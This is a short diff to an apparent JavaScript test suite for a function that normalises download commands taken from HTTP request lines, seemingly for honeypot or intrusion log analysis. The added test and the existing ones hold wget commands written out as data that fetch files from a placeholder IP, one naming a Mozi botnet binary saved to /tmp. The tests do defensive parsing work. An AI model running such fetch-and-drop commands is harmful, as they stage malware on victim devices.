@@ -44,6 +44,7 @@ describe('download commands', () => {
       .toBe('wget http://192.0.2.1/Mozi.m -O /tmp/netgear');
     expect(commandKey('wget%20http://192.0.2.1/a')).toBe('wget http://192.0.2.1/a');
     expect(commandKey('wget+http://192.0.2.1/a+-O+b HTTP/1.1')).toBe('wget http://192.0.2.1/a -O b');
+    expect(commandKey(String.raw`wget+http:/\/192.0.2.1/a`)).toBe('wget http://192.0.2.1/a');
   });
 
   it('ends a command in a request line\'s query before the protocol version', () => {
